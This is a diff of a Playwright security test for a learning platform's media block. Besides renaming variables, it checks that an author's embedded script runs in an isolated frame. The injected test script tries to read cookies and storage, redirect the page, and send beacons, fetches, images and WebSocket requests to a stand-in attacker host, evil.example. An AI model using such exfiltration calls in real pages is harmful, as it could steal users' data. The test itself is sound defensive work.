@@ -122,8 +122,8 @@ test('[RCV-08] with scripts on, they run in a frame without access to page, cook
   const heard = complaints(page);
   const asked = await foreign(page);
   const script = `
-    const said = {};
-    const tried = (name, what) => { try { said[name] = String(what()); } catch (error) { said[name] = error.name; } };
+    const results = {};
+    const tried = (name, what) => { try { results[name] = String(what()); } catch (error) { results[name] = error.name; } };
     tried('cookie', () => document.cookie);
     tried('storage', () => localStorage.length);
     tried('session', () => sessionStorage.length);
@@ -135,8 +135,8 @@ test('[RCV-08] with scripts on, they run in a frame without access to page, cook
     tried('popup', () => window.open('${EVIL}/a1'));
     tried('away', () => { top.location = '${EVIL}/a2'; });
     tried('beacon', () => navigator.sendBeacon('${EVIL}/a3', 'x'));
-    fetch('${EVIL}/a4').catch(() => { said.fetch = 'refused'; tell(); });
-    fetch('/api/platform/v1/users/me', { credentials: 'include' }).catch(() => { said.own = 'refused'; tell(); });
+    fetch('${EVIL}/a4').catch(() => { results.fetch = 'refused'; report(); });
+    fetch('/api/platform/v1/users/me', { credentials: 'include' }).catch(() => { results.own = 'refused'; report(); });
     new Image().src = '${EVIL}/a5.png';
     try { new WebSocket('wss://evil.example/a6'); } catch {}
     try { new EventSource('${EVIL}/a7'); } catch {}
@@ -147,20 +147,20 @@ test('[RCV-08] with scripts on, they run in a frame without access to page, cook
     document.body.append(Object.assign(document.createElement('iframe'), { src: '${EVIL}/a12' }));
     parent.postMessage({ type: 'link', href: '${EVIL}/a14' }, '*');
     top.postMessage({ protocol: 'learn-content-frame', version: 1 }, '*');
-    const tell = () => { document.getElementById('said').textContent = JSON.stringify(said); };
-    tell();`;
+    const report = () => { document.getElementById('results').textContent = JSON.stringify(results); };
+    report();`;
   await write(
     page,
-    `<style>#said { color: rgb(1, 2, 3); }</style><p id="said"></p><p>${tracking.join('')}</p><p id="loud" onclick="this.textContent = 'pressed'">press</p>${END}<script>${script}</script>`,
+    `<style>#results { color: rgb(1, 2, 3); }</style><p id="results"></p><p>${tracking.join('')}</p><p id="loud" onclick="this.textContent = 'pressed'">press</p>${END}<script>${script}</script>`,
     { 'LMS.MediaBlock.AllowScripts': true },
   );
   await page.goto(hosts.learn + content);
   const inside = page.frameLocator('.active-content').frameLocator('iframe');
   await expect(inside.getByText('The end')).toBeVisible();
-  await expect(inside.locator('#said')).toContainText('"own":"refused"');
-  await expect(inside.locator('#said')).toContainText('"fetch":"refused"');
-  await expect(inside.locator('#said')).toHaveCSS('color', 'rgb(1, 2, 3)');
-  expect(JSON.parse((await inside.locator('#said').textContent())!)).toMatchObject({
+  await expect(inside.locator('#results')).toContainText('"own":"refused"');
+  await expect(inside.locator('#results')).toContainText('"fetch":"refused"');
+  await expect(inside.locator('#results')).toHaveCSS('color', 'rgb(1, 2, 3)');
+  expect(JSON.parse((await inside.locator('#results').textContent())!)).toMatchObject({
     cookie: 'SecurityError',
     storage: 'SecurityError',
     session: 'SecurityError',
@@ -329,7 +329,7 @@ test('[RCV-08] toggles and galleries that an author’s script handles are not c
   await signIn(page, 'nora');
   await write(
     page,
-    `<div class="toggle"><b>Mine</b><p>Open</p></div><p id="said"></p><script>document.getElementById('said').textContent = document.querySelectorAll('div.toggle').length + ' toggle';</script>`,
+    `<div class="toggle"><b>Mine</b><p>Open</p></div><p id="results"></p><script>document.getElementById('results').textContent = document.querySelectorAll('div.toggle').length + ' toggle';</script>`,
     { 'LMS.MediaBlock.AllowScripts': true },
   );
   await page.goto(hosts.learn + content);
